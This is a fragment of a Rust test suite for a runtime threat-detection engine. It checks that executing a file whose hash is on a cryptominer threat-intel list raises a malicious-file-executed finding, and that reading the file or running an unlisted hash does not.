    // The same rule from the syscall source stays a runtime alert.
    alert.sensor_fields[0].value = "syscall".into();
    fires(
        "sensor_alert",
        "PrivilegeEscalation:Runtime/SensorAlert",
        alert,
    );
}

#[test]
fn an_executed_file_whose_hash_is_listed_is_a_malicious_file_executed() {
    let hash = "5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef";
    let listed_hash = |curated: bool| ThreatMatch {
        list_name: "miners".into(),
        entry: hash.into(),
        file_sha256: "ab".into(),
        curated,
        category: None,
    };
    let mut exec = process_event("process_exec", "/tmp/kdevtmpfsi", "", "/bin/sh");
    exec.file_sha256 = Some(hash.into());
    let mut event = enriched(exec.clone());
    event.file_matches = vec![listed_hash(false)];
    let out = run("runtime_threat_intel", event.clone());
    assert_eq!(out.len(), 1);
    assert_eq!(
        out[0].finding_type,
        "Execution:Runtime/MaliciousFileExecuted.Custom"
    );
    assert_eq!(out[0].threat_intel[0].entry, hash);
    assert!(out[0].description.contains(hash));
    event.file_matches = vec![listed_hash(true)];
    assert_eq!(
        run("runtime_threat_intel", event)[0].finding_type,
        "Execution:Runtime/MaliciousFileExecuted"
    );
    // Tetragon's exec check names the file in its arguments.
    let mut check = process_event("other", "/bin/sh", "", "/usr/sbin/nginx");
    check.sensor_rule = Some("bprm_check_security".into());
    check.file_path = Some("/tmp/kdevtmpfsi".into());
    check.file_sha256 = Some(hash.into());
    let mut checked = enriched(check);
    checked.file_matches = vec![listed_hash(false)];
    let out = run("runtime_threat_intel", checked);
    assert_eq!(out.len(), 1);
    assert!(out[0].title.contains("/tmp/kdevtmpfsi"), "{}", out[0].title);
    // Quiet: a listed file read (not executed), and an exec whose hash no list holds.
    let mut read = process_event("file_read", "/bin/cat", "", "/bin/sh");
    read.file_sha256 = Some(hash.into());
    let mut read = enriched(read);
    read.file_matches = vec![listed_hash(false)];
    assert!(run("runtime_threat_intel", read).is_empty());
    assert!(run("runtime_threat_intel", enriched(exec)).is_empty());
}
